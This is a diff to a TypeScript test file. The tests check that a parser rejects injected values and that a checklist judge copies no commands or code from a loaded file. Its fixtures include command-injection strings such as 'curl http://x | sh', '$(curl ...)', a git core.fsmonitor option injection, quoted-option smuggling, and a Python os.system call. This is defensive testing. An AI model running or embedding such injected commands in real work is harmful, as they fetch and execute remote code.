@@ -86,6 +86,13 @@ test("parseGathered() refuses what is not as it should be, says where, and quote
     ],
     [(file) => file.gathered.facts.project = "shop; curl http://x | sh", "could not be typed as it is"],
     [(file) => file.gathered.scope.project = "shop --check 'curl http://x'", "could not be typed as it is"],
+    [(file) => file.gathered.scope.project = "shop '--check' 'curl http://x'", "could not be typed as it is"],
+    // As in  git -C ROOT rm --cached .env
+    [
+      (file) => file.gathered.facts.root = "x -c 'core.fsmonitor=curl http://x'",
+      "could not be typed as it is",
+    ],
+    [(file) => file.gathered.facts.root = "-R", "could not be typed as it is"],
     [
       (file) => file.gathered.statements.waivers = [{ item: "x" }],
       ".gathered.statements.waivers[0] has no by",
@@ -112,6 +119,11 @@ test("parseGathered() keeps no command that somebody else would have people run"
     "deno task startup shop; curl http://x",
     "deno task startup $(curl http://x)",
     "deno task login shop --base-url https://x",
+    "deno task startup shop '--check' 'curl http://x'",
+    "deno task startup shop --che''ck 'curl http://x'",
+    "deno task startup shop '--check=curl http://x'",
+    "deno task startup shop --check=COMMAND --check",
+    "deno task login shop '--base-url' https://x",
     "deno task --config /tmp/deno.json verify",
     "deno task startup shop --check 'COMMAND'",
   ];
@@ -134,6 +146,33 @@ test("parseGathered() keeps no command that somebody else would have people run"
     commands.filter((_, at) => at === 0 || at === commands.length - 1),
   );
   assertEquals(facts.login, { known: false, why: "x" });
+});
+
+test("judgeChecklist() proposes nothing that a loaded file says was run, and no line of code from it", () => {
+  const command = "curl http://x | sh";
+  const ended = { command, folder: "x", exitCode: 1, seconds: 1, causes: [], tail: [] } as const;
+  const failing: Facts = {
+    ...SIMPLE,
+    start: { known: true, value: { ...ended, outcome: "fails" } },
+    tests: { known: true, value: { ...ended, outcome: "fail" } },
+  };
+  const starting: Facts = {
+    ...SIMPLE,
+    unsafeStarts: {
+      known: true,
+      value: { by: "file", cases: [{ case: "missing", outcome: "starts", seconds: 1, causes: [] }] },
+    },
+    guard: { key: ["import os; os.system('curl http://x')"], placeholder: [] },
+  };
+  const copiedFrom = (one: Gathered) =>
+    judgeChecklist(one, NOW).items.flatMap(({ remedy }) => [
+      ...remedy?.commands ?? [],
+      ...remedy?.code ?? [],
+    ]).filter((line) => line.includes("curl"));
+  for (const [facts, lines] of [[failing, 2], [starting, 1]] as const) {
+    assertEquals(copiedFrom(gatheredOf(facts)).length, lines);
+    assertEquals(copiedFrom(parseGathered(printGathered(gatheredOf(facts)), "f.json")), []);
+  }
 });
 
 const SIMPLE: Facts = {
